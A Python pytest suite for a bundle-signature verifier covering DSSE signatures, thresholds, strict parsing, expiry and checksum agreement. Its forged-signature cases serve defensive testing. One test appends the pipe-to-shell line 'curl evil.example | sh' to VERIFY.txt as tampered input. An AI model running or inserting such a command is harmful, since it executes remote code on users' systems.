"""Tests are named by the step of ``bundler.trust.verify`` that they are about."""

from __future__ import annotations

import base64
import copy
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from hypothesis import given
from hypothesis import strategies as st

from bundler.bundle.frames import stored_length
from bundler.bundle.inventory import Inventory, Row, write_inventory
from bundler.errors import (
    ArchiveError,
    BundlerError,
    ConfigError,
    LimitError,
    PolicyError,
    SignatureError,
    TrustError,
    UnsupportedError,
)
from bundler.oci.digest import digest_of
from bundler.trust import verify as module
from bundler.trust.clock import BUILD
from bundler.trust.dsse import Envelope, Signature, pae, parse_envelope, serialise
from bundler.trust.keys import public_key_of
from bundler.trust.signing import PrivateKey, sign_envelope
from bundler.trust.sums import signature_name
from bundler.trust.verify import Documents, Trusted, accept_unsigned, verify
from tests.trust.papers import NOW, TEXT, Papers, key, with_envelope

ANN, BOB, CAT, EVE = key("ann"), key("bob", "ed25519"), key("cat"), key("eve")
GOOD = Papers().signed_by(ANN)


def check(documents: Documents, *signers: PrivateKey, threshold: int = 1, **options: Any) -> Trusted:
    keys = [signer.public for signer in signers or (ANN,)]
    return verify(documents, keys=keys, threshold=threshold, now=options.pop("now", NOW), **options)


def replaced(**parts: Any) -> Documents:
    return replace(GOOD, **parts)


def test_a_good_bundle() -> None:
    trusted = check(GOOD)
    assert trusted.statement == Papers().statement()
    assert trusted.inventory.bundle_id == trusted.statement.bundle_id
    assert trusted.signers == (ANN.public.key_id,)
    assert trusted.signed
    assert list(trusted.sums) == ["VERIFY.txt", "inventory.json", "volume-0001.tar.zst", "volume-0002.tar.zst"]


# 1  Size caps


@pytest.mark.parametrize("part", ["envelope", "inventory", "sums", "text"])
def test_1_oversized_document(part: str, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("ENVELOPE_CAP", "INVENTORY_CAP", "SUMS_CAP", "VERIFY_CAP"):
        monkeypatch.setattr(module, name, 5000)
    documents = replaced(**{part: b" " * 5001})
    for go in (check, accept_unsigned):
        with pytest.raises(LimitError, match="5001 bytes, more than the 5000 allowed"):
            go(documents)


def test_1_oversized_signature() -> None:
    documents = replace(GOOD, signatures={"SHA256SUMS.x.sig": bytes(2049)})
    with pytest.raises(LimitError, match=r"SHA256SUMS\.x\.sig: 2049 bytes"):
        check(documents)


def test_1_too_many_signature_files() -> None:
    documents = replace(GOOD, signatures={f"SHA256SUMS.{n}.sig": b"" for n in range(1025)})
    with pytest.raises(LimitError, match="more than 1024 signatures"):
        check(documents)


def test_1_comes_before_the_keys() -> None:
    with pytest.raises(LimitError):
        verify(replace(GOOD, envelope=bytes((16 << 20) + 1)), keys=[], now=NOW)


# 2  The root of trust


def test_2_no_keys() -> None:
    with pytest.raises(ConfigError, match="no key"):
        verify(GOOD, keys=[], now=NOW)
    with pytest.raises(ConfigError, match="no key"):
        verify(GOOD, keys=[], threshold=0, now=NOW)


@pytest.mark.parametrize("threshold", [0, -1, 3, 10**9])
def test_2_threshold_that_cannot_be_met_or_means_nothing(threshold: int) -> None:
    with pytest.raises(ConfigError, match=f"a threshold of {threshold} with 2 keys"):
        check(Papers().signed_by(ANN, BOB), ANN, BOB, threshold=threshold)


def test_2_the_same_key_given_twice_counts_once() -> None:
    with pytest.raises(ConfigError, match="a threshold of 2 with 1 key"):
        check(GOOD, ANN, ANN, threshold=2)


# 3  The threshold of signatures over the exact bytes


@pytest.mark.parametrize("signers", [(ANN,), (BOB,), (ANN, BOB), (ANN, BOB, CAT)])
def test_3_any_of_the_keys_will_do(signers: tuple[PrivateKey, ...]) -> None:
    trusted = check(Papers().signed_by(*signers), ANN, BOB, CAT)
    assert set(trusted.signers) == {signer.public.key_id for signer in signers}


def test_3_two_of_three() -> None:
    assert len(check(Papers().signed_by(ANN, CAT), ANN, BOB, CAT, threshold=2).signers) == 2
    with pytest.raises(TrustError, match=r"signed by 1 of the given keys, where 2 are needed$"):
        check(GOOD, ANN, BOB, CAT, threshold=2)
    with pytest.raises(TrustError, match=f"where 2 are needed; also signed by 1 unknown key: {EVE.public.key_id}"):
        check(Papers().signed_by(ANN, EVE), ANN, BOB, threshold=2)


def test_3_stripped_signatures() -> None:
    with pytest.raises(SignatureError, match=r"bundle\.dsse\.json: the bundle is not signed"):
        check(with_envelope(GOOD, serialise(Envelope(Papers().payload()))))


def test_3_stripped_envelope() -> None:
    with pytest.raises(SignatureError, match=r"bundle\.dsse\.json: missing or empty"):
        check(with_envelope(GOOD, b""))


def test_3_foreign_signature_names_the_key_and_what_to_pass() -> None:
    with pytest.raises(TrustError, match=EVE.public.key_id) as caught:
        check(Papers().signed_by(EVE))
    assert "--key" in caught.value.hint


def test_3_foreign_signature_under_a_trusted_id() -> None:
    forged = Signature(ANN.public.key_id, EVE.sign(Envelope(Papers().payload()).signed_bytes))
    with pytest.raises(SignatureError, match=f"{ANN.public.key_id} does not match"):
        check(Papers().under(Envelope(Papers().payload(), (forged,)), [ANN]))


def test_3_trusted_signature_under_a_foreign_id_counts() -> None:
    """The id is a hint; what decides is whether a trusted key's signature fits."""
    signature = Signature(EVE.public.key_id, ANN.sign(Envelope(Papers().payload()).signed_bytes))
    trusted = check(Papers().under(Envelope(Papers().payload(), (signature,)), [ANN]))
    assert trusted.signers == (ANN.public.key_id,)


def test_3_swapped_between_two_bundles() -> None:
    one, two = Papers(serial=1).signed_by(ANN), Papers(serial=2).signed_by(ANN)
    signature = parse_envelope(two.envelope).signatures
    mixed = serialise(Envelope(Papers(serial=1).payload(), signature))
    with pytest.raises(SignatureError, match="does not match the statement"):
        check(with_envelope(one, mixed))


def test_3_reserialised_payload() -> None:
    envelope = parse_envelope(GOOD.envelope)
    payload = json.dumps(json.loads(envelope.payload)).encode()
    with pytest.raises(SignatureError, match="does not match the statement"):
        check(with_envelope(GOOD, serialise(Envelope(payload, envelope.signatures))))


def test_3_edited_payload() -> None:
    envelope = parse_envelope(GOOD.envelope)
    payload = envelope.payload.replace(b'"serial": 7', b'"serial": 8')
    assert payload != envelope.payload
    with pytest.raises(SignatureError, match="does not match the statement"):
        check(with_envelope(GOOD, serialise(Envelope(payload, envelope.signatures))))


def test_3_signature_over_the_bare_payload() -> None:
    envelope = Envelope(Papers().payload())
    bare = envelope.with_signature(Signature(ANN.public.key_id, ANN.sign(envelope.payload)))
    with pytest.raises(SignatureError):
        check(Papers().under(bare, [ANN]))


def test_3_signature_for_another_payload_type() -> None:
    envelope = Envelope(Papers().payload())
    other = Signature(ANN.public.key_id, ANN.sign(pae("application/vnd.oci.image.manifest.v1+json", envelope.payload)))
    with pytest.raises(SignatureError):
        check(Papers().under(envelope.with_signature(other), [ANN]))


def test_3_other_payload_type_is_refused_even_if_properly_signed() -> None:
    payload, kind = Papers().payload(), "application/json"
    raw = json.dumps({
        "payloadType": kind,
        "payload": base64.b64encode(payload).decode(),
        "signatures": [
            {"keyid": ANN.public.key_id, "sig": base64.b64encode(ANN.sign(pae(kind, payload))).decode()}
        ],
    }).encode()  # fmt: skip
    with pytest.raises(ArchiveError, match="payloadType must be"):
        check(with_envelope(GOOD, raw))


def test_3_multi_byte_payload_is_counted_in_bytes() -> None:
    payload = Papers().payload()
    assert len(payload) != len(payload.decode())
    characters = b"DSSEv1 28 application/vnd.in-toto+json %d %b" % (len(payload.decode()), payload)
    with pytest.raises(SignatureError):
        check(Papers().under(Envelope(payload, (Signature(ANN.public.key_id, ANN.sign(characters)),)), [ANN]))


def test_3_the_same_signature_many_times_counts_once() -> None:
    envelope = sign_envelope(Envelope(Papers().payload()), ANN)
    value = envelope.signatures[0].value
    many = Envelope(envelope.payload, tuple(Signature(name, value) for name in (ANN.public.key_id, "", "x", "y")))
    with pytest.raises(TrustError, match="signed by 1 of the given keys, where 2 are needed"):
        check(Papers().under(many, [ANN]), ANN, BOB, threshold=2)
    assert check(Papers().under(many, [ANN]), ANN, BOB).signers == (ANN.public.key_id,)


def test_3_two_different_signatures_of_one_key_count_once() -> None:
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.serialization import load_der_private_key

    envelope = Envelope(Papers().payload())
    plain = load_der_private_key(ANN.pkcs8(), None)
    assert isinstance(plain, ec.EllipticCurvePrivateKey)
    values = [plain.sign(envelope.signed_bytes, ec.ECDSA(hashes.SHA256())) for _ in range(2)]
    assert values[0] != values[1]
    twice = Envelope(envelope.payload, (Signature("a", values[0]), Signature("b", values[1])))
    with pytest.raises(TrustError, match="signed by 1"):
        check(Papers().under(twice, [ANN]), ANN, BOB, threshold=2)


def test_3_a_co_signer_that_is_not_known_does_no_harm() -> None:
    trusted = check(Papers().signed_by(ANN, EVE))
    assert trusted.signers == (ANN.public.key_id,)


def test_3_a_wrong_signature_of_a_trusted_key_is_refused_beside_a_right_one() -> None:
    envelope = sign_envelope(Envelope(Papers().payload()), ANN).with_signature(Signature(BOB.public.key_id, bytes(64)))
    with pytest.raises(SignatureError, match=BOB.public.key_id):
        check(Papers().under(envelope, [ANN, BOB]), ANN, BOB)


@pytest.mark.parametrize(
    "value", [encode_dss_signature(0, 0), encode_dss_signature(1, 1), b"\0", bytes(64), bytes(512)]
)
def test_3_trivial_signatures(value: bytes) -> None:
    for key_id in (ANN.public.key_id, "", EVE.public.key_id):
        envelope = Envelope(Papers().payload(), (Signature(key_id, value),))
        with pytest.raises((SignatureError, TrustError)):
            check(Papers().under(envelope, [ANN]), ANN, BOB)


def test_3_ids_are_printed_safely() -> None:
    envelope = Envelope(Papers().payload(), (Signature("\x1b[2J\u202e", b"s"),))
    with pytest.raises(TrustError) as caught:
        check(Papers().under(envelope, []))
    assert str(caught.value).isprintable()


def test_3_an_rsa_key_verifies() -> None:
    private = rsa.generate_private_key(65537, 3072)
    public = public_key_of(
        private.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    )

    def sign(message: bytes) -> bytes:
        return private.sign(message, padding.PKCS1v15(), hashes.SHA256())

    envelope = Envelope(Papers().payload())
    envelope = envelope.with_signature(Signature(public.key_id, sign(envelope.signed_bytes)))
    sums = Papers().sums()
    documents = Documents(
        serialise(envelope), Papers().inventory_bytes(), sums, TEXT, {signature_name(public.key_id): sign(sums)}
    )
    assert verify(documents, keys=[public], now=NOW).signers == (public.key_id,)


def test_3_comes_before_the_statement_is_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    """I9: nothing is parsed deeper than its verified layer."""

    def never(*_: Any, **__: Any) -> None:
        pytest.fail("parsed before it was verified")

    for name in ("parse_statement", "parse_inventory", "parse_sums"):
        monkeypatch.setattr(module, name, never)
    with pytest.raises(TrustError):
        check(Papers().signed_by(EVE))


@given(st.data())
def test_3_no_changed_byte_of_the_envelope_goes_unnoticed(data: st.DataObject) -> None:
    raw = bytearray(GOOD.envelope)
    position = data.draw(st.integers(0, len(raw) - 1))
    raw[position] ^= data.draw(st.integers(1, 255))
    try:
        found = check(with_envelope(GOOD, bytes(raw)))
    except BundlerError:
        return
    # What remains are the bytes that say nothing: the claimed id, and blanks between the parts.
    assert found == check(GOOD)
    assert parse_envelope(bytes(raw)).payload == parse_envelope(GOOD.envelope).payload


# 4  The statement, strictly parsed


def signed_payload(payload: bytes) -> Documents:
    return Papers().under(sign_envelope(Envelope(payload), ANN), [ANN])


def edited(**changes: Any) -> bytes:
    value = json.loads(Papers().payload())
    value["predicate"].update(changes)
    return json.dumps(value).encode()


STATEMENTS: dict[str, tuple[bytes, type[BundlerError]]] = {
    "not-json": (b"hello", ArchiveError),
    "another-in-toto-predicate": (
        Papers().payload().replace(b"urn:oci-bundler:bundle:v1", b"https://slsa.dev/provenance/v1"),
        ArchiveError,
    ),
    "key-twice": (Papers().payload().replace(b'"serial"', b'"serial": 9, "serial"'), ArchiveError),
    "key-in-two-cases": (Papers().payload().replace(b'"serial"', b'"Serial": 9, "serial"'), ArchiveError),
    "long-s-in-key": (
        Papers().payload().replace(b'"serial"', '"\u017ferial": 9, "serial"'.encode()),
        ArchiveError,
    ),
    "unknown-key": (edited(surprise=1), ArchiveError),
    "newer-version": (edited(minReader=99), UnsupportedError),
    "trailing-data": (Papers().payload() + b"x", ArchiveError),
}


@pytest.mark.parametrize(("payload", "kind"), STATEMENTS.values(), ids=STATEMENTS)
def test_4_signed_but_not_a_statement(payload: bytes, kind: type[BundlerError]) -> None:
    with pytest.raises(kind, match=r"bundle\.dsse\.json"):
        check(signed_payload(payload))


# 5  Policy


def test_5_expiry() -> None:
    documents = Papers(expires=NOW).signed_by(ANN)
    assert check(documents, now=NOW - timedelta(seconds=1))
    for late in (NOW, NOW + timedelta(days=1)):
        with pytest.raises(PolicyError, match="edge stable 7: expired at 2030-06-01T00:00:00Z"):
            check(documents, now=late)
        assert check(documents, now=late, allow_expired=True).signed


def test_5_a_clock_before_this_release_is_not_believed() -> None:
    documents = Papers(expires=BUILD).signed_by(ANN)
    for now in (datetime(1970, 1, 2, tzinfo=UTC), BUILD - timedelta(seconds=1)):
        with pytest.raises(PolicyError, match="expired"):
            check(documents, now=now)
        with pytest.raises(PolicyError, match="expired"):
            accept_unsigned(documents, now=now)
    assert check(Papers(expires=NOW).signed_by(ANN), now=datetime(1970, 1, 2, tzinfo=UTC)).clock == BUILD + timedelta(
        days=1
    )


def test_5_no_expiry() -> None:
    assert check(GOOD, now=NOW + timedelta(days=36500))


def test_5_comes_after_the_signature() -> None:
    with pytest.raises(TrustError):
        check(Papers(expires=NOW).signed_by(EVE))


# 6  SHA256SUMS and the inventory agree with the statement


def test_6_edited_sums() -> None:
    with pytest.raises(SignatureError, match=r"not the signature of key .* over SHA256SUMS"):
        check(replace(GOOD, sums=GOOD.sums + b"0" * 64 + b"  more\n"))


def test_6_stripped_sums_signature() -> None:
    with pytest.raises(SignatureError, match=r"SHA256SUMS\.[0-9a-f]{16}\.sig: missing"):
        check(replace(GOOD, signatures={}))


def test_6_foreign_signature_under_a_trusted_name() -> None:
    name = signature_name(ANN.public.key_id)
    with pytest.raises(SignatureError, match=f"{name}: not the signature"):
        check(replace(GOOD, signatures={name: EVE.sign(GOOD.sums)}))


def test_6_signature_of_someone_who_did_not_sign_the_statement() -> None:
    more = {**GOOD.signatures, signature_name(EVE.public.key_id): EVE.sign(GOOD.sums)}
    with pytest.raises(SignatureError, match="of a key that has not signed the statement"):
        check(replace(GOOD, signatures=more))


def test_6_signature_of_another_bundles_sums() -> None:
    with pytest.raises(SignatureError):
        check(replace(GOOD, signatures=Papers(serial=8, volumes=(b"x",)).signed_by(ANN).signatures))


def test_6_one_of_several_signatures_is_missing() -> None:
    documents = Papers().signed_by(ANN, BOB)
    name = signature_name(BOB.public.key_id)
    left = {other: value for other, value in documents.signatures.items() if other != name}
    with pytest.raises(SignatureError, match=f"{name}: missing"):
        check(replace(documents, signatures=left), ANN, BOB)
    # A verifier that does not know the second key doesn't need its signature.
    assert check(replace(documents, signatures=left), ANN)


@pytest.mark.parametrize("name", ["sums", "inventory", "text"])
def test_6_missing_document(name: str) -> None:
    for go in (check, accept_unsigned):
        with pytest.raises(ArchiveError, match="missing or empty"):
            go(replaced(**{name: b""}))


def test_6_edited_verify_text() -> None:
    for go in (check, accept_unsigned):
        with pytest.raises(ArchiveError, match=r"VERIFY\.txt: not the file that SHA256SUMS lists") as caught:
            go(replaced(text=TEXT + b"; curl evil.example | sh"))
        assert "run none of the commands" in caught.value.hint


def line_of(name: str) -> str:
    return next(line for line in Papers().sums().decode().splitlines(keepends=True) if line.endswith(f"  {name}\n"))


def without(name: str) -> bytes:
    return Papers().sums().replace(line_of(name).encode(), b"")


DISAGREEMENTS = {
    "volume-missing": (without("volume-0002.tar.zst"), r"volume-0002\.tar\.zst is missing"),
    "inventory-missing": (without("inventory.json"), r"inventory\.json is missing"),
    "verify-missing": (without("VERIFY.txt"), r"VERIFY\.txt is missing"),
    "foreign-file": (Papers().sums() + b"0" * 64 + b"  volume-0003.tar.zst\n", "which is no file of this bundle"),
    "lists-itself": (Papers().sums() + b"0" * 64 + b"  SHA256SUMS\n", "which is no file of this bundle"),
    "lists-the-envelope": (Papers().sums() + b"0" * 64 + b"  bundle.dsse.json\n", "which is no file of this bundle"),
    "another-digest": (
        Papers().sums().replace(line_of("volume-0001.tar.zst")[:64].encode(), b"0" * 64),
        r"gives volume-0001\.tar\.zst another digest",
    ),
    "swapped-volumes": (
        Papers(volumes=(b"volume two", b"volume one")).sums(),
        r"gives inventory\.json another digest|gives volume-0001\.tar\.zst another digest",
    ),
    "volume-twice": (Papers().sums() + line_of("volume-0001.tar.zst").encode(), "listed twice"),
    "not-our-format": (b"hello\n", "line 1"),
}


@pytest.mark.parametrize(("sums", "message"), DISAGREEMENTS.values(), ids=DISAGREEMENTS)
def test_6_signed_sums_that_disagree_with_the_statement(sums: bytes, message: str) -> None:
    documents = Papers().signed_by(ANN, sums=sums)
    with pytest.raises(ArchiveError, match=message):
        check(documents)
    with pytest.raises(ArchiveError, match=message):
        accept_unsigned(documents)


def test_6_another_inventory() -> None:
    other = Papers(volumes=(b"longer volume", b"b")).inventory_bytes()
    with pytest.raises(ArchiveError, match=f"hashes to {digest_of(other)}"):
        check(replace(GOOD, inventory=other))


def test_6_inventory_is_not_parsed_before_its_digest_fits(monkeypatch: pytest.MonkeyPatch) -> None:
    def never(*_: Any, **__: Any) -> None:
        pytest.fail("parsed before it was verified")

    monkeypatch.setattr(module, "parse_inventory", never)
    with pytest.raises(ArchiveError):
        check(replace(GOOD, inventory=GOOD.inventory + b" "))


ROW = Row(digest_of(b"x"), 1, volume=1, offset=0, length=stored_length(1), method="stored")
INVENTORIES = {
    "not-json": (b"hello", "not JSON"),
    "of-another-bundle": (Papers(bundle_id=digest_of(b"x")).inventory_bytes(), "the bundle id is sha256:"),
    "of-more-volumes": (write_inventory(Inventory(Papers().bundle_id, 0, (1, 2, 3), ())), "the number of volumes is 3"),
    "of-more-contents": (
        write_inventory(Inventory(Papers().bundle_id, 0, (900, 9), (ROW,))),
        "the number of contents is 1",
    ),
    "key-in-two-cases": (
        Papers().inventory_bytes().replace(b'"rows"', b'"Rows": [], "rows"'),
        "appears also as",
    ),
}


@pytest.mark.parametrize(("raw", "message"), INVENTORIES.values(), ids=INVENTORIES)
def test_6_signed_inventory_that_is_none_of_this_bundle(raw: bytes, message: str) -> None:
    with pytest.raises(ArchiveError, match=rf"inventory\.json.*{message}"):
        check(Papers(inventory=raw).signed_by(ANN))


# --unsafe-no-signature


def test_unsigned_is_marked_as_such() -> None:
    for documents in (GOOD, Papers().signed_by(), Papers().signed_by(EVE)):
        trusted = accept_unsigned(documents)
        assert not trusted.signed
        assert trusted.signers == ()
        assert trusted.statement == Papers().statement()


def test_unsigned_still_expires() -> None:
    documents = Papers(expires=NOW).signed_by()
    assert accept_unsigned(documents)
    assert accept_unsigned(documents, now=NOW, allow_expired=True)
    with pytest.raises(PolicyError):
        accept_unsigned(documents, now=NOW)


def test_unsigned_is_still_parsed_strictly() -> None:
    with pytest.raises(ArchiveError):
        accept_unsigned(with_envelope(GOOD, serialise(Envelope(edited(surprise=1)))))
    with pytest.raises(ArchiveError):
        accept_unsigned(with_envelope(GOOD, b""))


# The seal


def test_nobody_else_makes_a_trusted_bundle() -> None:
    good = check(GOOD)
    with pytest.raises(TypeError, match=r"made by bundler\.trust\.verify alone"):
        Trusted(good.statement, good.inventory, good.sums, (), signed=True, seal=None)
    with pytest.raises(TypeError):
        Trusted(good.statement, good.inventory, good.sums, (), signed=True)  # type: ignore[call-arg] # that is the point
    with pytest.raises((TypeError, ValueError)):
        replace(good, signed=True)  # type: ignore[call-arg] # that is the point
    with pytest.raises(AttributeError):
        accept_unsigned(GOOD).signed = True  # type: ignore[misc] # that is the point


def test_a_copy_says_the_same() -> None:
    good = check(GOOD)
    assert copy.copy(good) == good
